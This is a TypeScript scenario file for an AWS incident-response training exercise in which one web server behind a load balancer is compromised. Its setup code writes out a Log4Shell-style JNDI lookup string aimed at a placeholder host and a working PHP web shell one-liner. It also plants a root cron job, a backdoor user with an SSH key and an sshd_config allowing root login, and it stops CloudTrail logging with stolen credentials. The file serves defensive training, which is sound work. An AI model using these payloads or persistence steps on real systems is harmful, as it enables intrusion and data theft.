import { beacon } from "../adversary/beacon.ts";
import { BucketReader, readAll } from "../adversary/bucket-reader.ts";
import { once } from "../adversary/once.ts";
import { stolenSession } from "../adversary/stolen-session.ts";
import type { Credentials } from "../kit/aws.ts";
import { fillDataBucket } from "../kit/data.ts";
import { defineScenario } from "../kit/define.ts";
import { giveAddress, pickFleetMember, zone } from "../kit/fleet.ts";
import type { Behaviour, Connection, Foothold, ProcessHandle, Stage } from "../kit/stage.ts";
import { fleetVariables } from "../kit/fleet-variables.ts";
import { variableOf } from "../kit/variation.ts";
import { criteria, MARKER } from "./criteria.ts";
import type { Facts } from "./facts.ts";

/** Documentation ranges (RFC 5737) and reserved names (RFC 2606): nobody's addresses. */
const C2 = { ip: "203.0.113.66", port: 443, name: "cdn-metrics.example" };
const SECOND_C2 = { ip: "203.0.113.71", port: 8443, name: "static-assets.example" };
const LAIR = { ip: "198.51.100.213", userAgent: "aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0-kali" };
const WEB_SHELL = "/static/.thumb.php";
/** A second way in, beside the system's own sshd. */
const LISTENER = { binary: "/tmp/.X11-unix/.cache/sshd", port: 8443 };

/** A user of its own, with a key. */
const BACKDOOR = {
  user: "svc-backup",
  authorizedKeys: "/home/svc-backup/.ssh/authorized_keys",
  key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMSL9oS4MnY5PggBh3n3FW6lumVSSH2HU+0GcrWhhShF svc@lair",
};

/** Whether the server can be reached past the load balancer, too. */
const [address, addressOf] = variableOf("Elastic IP", {
  elastic: "an Elastic IP on the server",
  none: "no Elastic IP on the server",
});

/** What the intruder holds while the run lasts, by stage: processes and connections are no facts for grading. */
interface Held {
  process: ProcessHandle;
  connection: Connection | undefined;
  credentials: Credentials;
}
const held = new WeakMap<Stage, Held>();

export default defineScenario<Facts>({
  id: "compromised-web-instance",
  title: "A web server talks to strangers",
  family: "Compromised compute",
  difficulty: 3,
  parMinutes: 15,
  summary: "One of two web servers behind the load balancer is under somebody else's control.",
  maps: {
    attack: ["T1190", "T1505.003", "T1071.001", "T1552.005", "T1078.004", "T1041"],
    findings: [
      "Backdoor:EC2/C&CActivity.B",
      "Backdoor:EC2/C&CActivity.B!DNS",
      "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
    ],
    nist: ["Detection & Analysis", "Containment, Eradication & Recovery"],
    exam: ["SCS-C02 1.3", "SCS-C03 2.2"],
  },
  needs: [
    "iam-enforcement",
    "event-history",
    "network-flows",
    "instances",
    "guest",
    "load-balancer",
    "auto-scaling",
    "findings",
  ],
  varies: { ...fleetVariables, zone, address },

  brief: (facts, stage) =>
    `${facts.ticket} · severity 2 · you are on call

GuardDuty has raised a high-severity finding about one of the web servers:
it talks to an address that is known for command and control. The shop runs
on two instances of one Auto Scaling group behind a load balancer, and
customers are buying right now.

Legal wants to know what was taken. OBJECTIVE: PRESERVE VOLATILE EVIDENCE.
Keep the machine running until its memory is in the evidence bucket, contain
the intruder everywhere, keep the shop up, then recover.

  ticket                 ${facts.ticket} (a tag on what belongs to the case)
  evidence bucket        ${facts.evidenceBucket}
  log bucket             ${facts.logBucket}
  forensic subnet        ${facts.forensicSubnetId}
  forensic workstation   ${stage.workstationCidr}
  clean image            ${facts.cleanImageId} (patched, tested)

The log bucket holds the trail, the flow logs and the load balancer's access
logs. You have the responder role. Nobody else will change anything in the
account while you work.`,

  async inject(stage) {
    const { platform } = stage;
    const facts: Facts = { ...(await pickFleetMember(stage)), c2: C2, lairIp: LAIR.ip };
    if (addressOf(stage) === "elastic") await giveAddress(stage, facts.instanceId);
    // The way in which the fleet is scaled in by hand: harmless, until somebody else shuts a machine down.
    await platform.ec2.modifyInstanceAttribute({
      InstanceId: facts.instanceId,
      InstanceInitiatedShutdownBehavior: { Value: "terminate" },
    });
    await fillDataBucket(platform, facts.dataBucket);
    stage.internet({ ...C2, threat: "c2" });
    stage.internet({ ...SECOND_C2, threat: "c2" });
    stage.internet({ ip: LAIR.ip });

    await stage.visit({
      path: "/search?q=${jndi:ldap://cdn-metrics.example/a}",
      clientIp: LAIR.ip,
      userAgent: "curl/8.5.0",
    });
    const foothold = stage.foothold(facts.instanceId);
    await foothold.plant({
      files: {
        [`/srv/web${WEB_SHELL}`]:
          "<?php if (md5($_GET['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') system($_GET['c']); ?>\n",
        "/usr/local/bin/kworkerd": {
          content: `\u007fELF kworkerd implant\nconfig: ${C2.name}:${C2.port} interval=15 jitter=0.3\n`,
          mode: 0o755,
        },
        "/tmp/.X11-unix/.cache/run.sh": {
          content: `#!/bin/sh\nnohup /usr/local/bin/kworkerd -q >/dev/null 2>&1 &\n`,
          mode: 0o755,
        },
        "/etc/ssh/sshd_config": "Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\nUsePAM yes\n",
        [BACKDOOR.authorizedKeys]: { content: `${BACKDOOR.key}\n`, owner: BACKDOOR.user, mode: 0o600 },
      },
      users: [{ name: BACKDOOR.user, uid: 1007, shell: "/bin/bash" }],
      cron: [{ user: "root", line: "*/5 * * * * /tmp/.X11-unix/.cache/run.sh" }],
      memory: [`${C2.name}:${C2.port}`, C2.ip, "kworkerd-session-key=7c1d9f52e0b84a6e"],
    });
    await foothold.resolve(C2.name);
    const process = await foothold.start({
      command: "/usr/local/bin/kworkerd -q",
      user: "root",
      cpuPercent: 3.2,
    });
    const connection = await process.connect({ ...C2, label: "c2" });
    if (!connection) throw new Error("the command-and-control connection could not be opened");
    await connection.send(4_000, 1_200);
    const credentials = await foothold.roleCredentials();
    if (!credentials) throw new Error("the instance has no role credentials to steal");
    await stage.intruder(credentials, LAIR).sts.getCallerIdentity({});
    held.set(stage, { process, connection, credentials });
    return facts;
  },

  adversary: (stage, facts) => {
    const { process, connection, credentials } = held.get(stage)!;
    const foothold = stage.foothold(facts.instanceId);
    const whileAlive = async (): Promise<Credentials | undefined> =>
      (await process.alive()) && (await reaches(connection)) ? await foothold.roleCredentials() : undefined;
    const reader = new BucketReader(facts.dataBucket);
    const behaviours: Behaviour[] = [
      beacon({
        everySeconds: 15,
        implant: { process, connection },
        controller: C2,
        resolve: () => foothold.resolve(C2.name),
      }),
      stolenSession({
        everySeconds: 20,
        from: LAIR,
        first: credentials,
        steal: whileAlive,
        purpose: `Read of s3://${facts.dataBucket} with the instance role's session`,
        use: (aws) => reader.readOne(aws, stage),
      }),
      backdoorLogin(foothold, async () => (await process.alive()) && (await reaches(connection))),
      {
        name: "web-shell",
        everySeconds: 45,
        afterSeconds: 10,
        async act({ visit, attempted }) {
          const came = await visit({
            path: `${WEB_SHELL}?k=s&c=id`,
            clientIp: LAIR.ip,
            userAgent: "curl/8.5.0",
          });
          const gotThrough = came.status === 200 && came.instanceId === facts.instanceId;
          attempted({
            attempt: "web-shell",
            gotThrough,
            what: `Request for ${WEB_SHELL} through the load balancer`,
            ...(!gotThrough && {
              refusal: came.instanceId === facts.instanceId ? `HTTP ${came.status}` : "another-instance",
            }),
          });
        },
      },
      once(
        "second-listener",
        240,
        async () => {
          if (!(await process.alive())) return undefined;
          await foothold.plant({
            files: { [LISTENER.binary]: { content: "\u007fELF OpenSSH_8.7p1\n", mode: 0o755 } },
          });
          const second = await foothold.start({
            command: `${LISTENER.binary} -D -p ${LISTENER.port}`,
            user: "root",
            listensOn: [LISTENER.port],
          });
          const back = await second.connect({ ...SECOND_C2, label: "c2-second" });
          const what = `A second way out, to ${SECOND_C2.name}:${SECOND_C2.port}`;
          return back ? { gotThrough: true, what } : { gotThrough: false, what, refusal: "timeout" };
        },
        "A second way out",
      ),
      once(
        "stop-trail",
        360,
        async () => {
          await stage
            .intruder((await whileAlive()) ?? credentials, LAIR)
            .cloudtrail.stopLogging({ Name: facts.trailName });
          return { gotThrough: true, what: `StopLogging of ${facts.trailName}` };
        },
        `StopLogging of ${facts.trailName}`,
      ),
      once(
        "data-grab",
        480,
        async () => {
          const aws = stage.intruder((await whileAlive()) ?? credentials, LAIR);
          const bytes = await readAll(aws, facts.dataBucket);
          return { gotThrough: true, what: `Everything in ${facts.dataBucket} was read`, bytes };
        },
        `Read of everything in ${facts.dataBucket}`,
      ),
    ];
    return behaviours;
  },

  markers: (facts) => [facts.c2.ip, ...Object.values(MARKER)],
  criteria,

  hints: [
    {
      cost: 3,
      text: "Look before you act, and ask what acts by itself: an Auto Scaling group that checks health through the load balancer replaces what you quarantine. Memory needs a way out while the machine still has one.",
    },
    {
      cost: 5,
      text: "A security group is asked when a connection opens. Ask the instance (ss -tnp by Run Command) whether the old one is still there after your swap, and read what connection tracking says of rules that allow everything both ways.",
    },
    {
      cost: 8,
      text: "The role's credentials left the building: detaching the profile does not call them back. Stop new ones, then deny everything to sessions issued before now (aws:TokenIssueTime), in UTC, to the second.",
    },
  ],

  debrief: {
    story:
      "The intruder came through the shop's search (a vulnerable logging library), left a web shell, an implant that beacons every 15 seconds, a cron job that brings it back, a user with a key that it logs in as through the implant's connection, and took the instance role's credentials from the metadata service, which still answered version 1. From then on there were three ways in: the implant's connection, the web shell behind the load balancer, and a session that works from anywhere.",
    rulings: [
      {
        topic: "Stop first, or isolate first?",
        text: "The forum answer stops the machine first; AWS's guide and most sources isolate it. Both are valid for different objectives. This brief asks for volatile evidence, so memory comes before any stop.",
        source:
          "forum: Correct Steps After EC2 Compromise?; AWS Security Incident Response User Guide, destination containment",
      },
      {
        topic: "Does the two-step security group trick cut tracked connections?",
        text: "AWS's own pages disagree. Here an all-open group turns a tracked connection on a direct Internet path into an untracked one, and the empty group then ends it; through a NAT gateway it does not. What counts is the proof that the connection ended.",
        source: "EC2 user guide, connection tracking; Your AWS EC2 Has Been Hacked",
      },
      {
        topic: "Snapshot before or after isolation?",
        text: "The practice test says after, two AWS automations do it before. Both are accepted; only completeness and completion count.",
        source: "SCS-C02 cram notes; aws-samples GuardDuty automated response",
      },
      {
        topic: "Emptying the security group",
        text: "The study text's sample command revokes the rules of the group in place. The group is shared: it takes the healthy server down and leaves the established connection alive.",
        source: "SCS-C02 cram notes; Your AWS EC2 Has Been Hacked",
      },
      {
        topic: "Out of the group and the target group before or after the security group?",
        text: "One source isolates last, another first. Both are accepted where nothing checks health in between. This group does, through the load balancer: what is isolated inside it fails the check and is terminated, so it leaves the group first, or in the same breath.",
        source: "Your AWS EC2 Has Been Hacked; Best Practices for Addressing Compromised Assets",
      },
      {
        topic: "Detach, standby or suspend?",
        text: "Detaching, standby and suspended processes all keep the group's hands off. Suspension holds for the whole group, and somebody must resume it.",
        source:
          "SCS-C02 cram notes; EC2 Auto Scaling user guide; Systems Manager, AWSSupport-ContainEC2Instance",
      },
      {
        topic: "An isolation group with SSH from one host, or with no rule at all?",
        text: "Both. One forensic workstation, or the VPC's own endpoints, may keep a way in or out for the acquisition; nobody else may.",
        source: "Security – Specialty notes, Incident Response; SCS-C02 cram notes",
      },
      {
        topic: "Network ACL or security group?",
        text: "The security group is for the instance. The network ACL is stateless and cuts established connections at once, for the whole subnet: deny the controller's address, not the subnet's life.",
        source:
          "SCS-C02 cram notes; forum: Correct Steps After EC2 Compromise?; VPC user guide, network ACLs",
      },
      {
        topic: "Terminate it?",
        text: "Last of all, when memory and completed snapshots are safe, and then it is right. What GuardDuty does is detect: it isolates and terminates nothing by itself.",
        source:
          "GuardDuty user guide, remediating a compromised EC2 instance; Your AWS EC2 Has Been Hacked, Analysis",
      },
    ],
    practiseNext: ["stolen-role-credentials", "crypto-mining", "stop-or-isolate"],
  },
});

/**
 * The new user is tried, once: nothing but the load balancer reaches the server, so that SSH comes through the
 * implant's connection, and for sshd from the machine itself.
 *
 * @param tunnel whether the implant's connection stands
 */
function backdoorLogin(foothold: Foothold, tunnel: () => Promise<boolean>): Behaviour {
  const { user, key, authorizedKeys } = BACKDOOR;
  let isTried = false;
  return {
    name: "backdoor-login",
    everySeconds: 240,
    async act() {
      if (isTried || !(await tunnel()) || !(await foothold.read(authorizedKeys))?.includes(key)) return;
      isTried = true;
      await foothold.plant({ logins: [{ user, from: "127.0.0.1", minutesAgo: 3, minutes: 2.5 }] });
    },
  };
}

const reaches = async (connection: Connection | undefined): Promise<boolean> =>
  (await connection?.send(200, 200)) ?? false;
